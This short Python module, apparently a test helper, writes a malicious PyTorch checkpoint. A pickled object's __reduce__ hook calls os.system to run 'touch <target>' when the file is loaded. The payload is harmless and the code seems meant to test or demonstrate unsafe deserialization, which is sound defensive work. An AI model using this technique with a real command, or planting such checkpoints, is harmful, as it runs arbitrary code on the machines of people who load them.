"""A checkpoint with code of its own, as an attacker would write it."""

import os
from collections.abc import Callable
from pathlib import Path

import torch


class Attack:
    """A value whose unpickling creates a file."""

    def __init__(self, target: Path) -> None:
        self._command = f"touch {target}"

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self._command,)


def write_malicious_checkpoint(path: Path, target: Path) -> None:
    """Write a checkpoint whose unpickling would create `target`."""
    torch.save({"model": Attack(target)}, path)
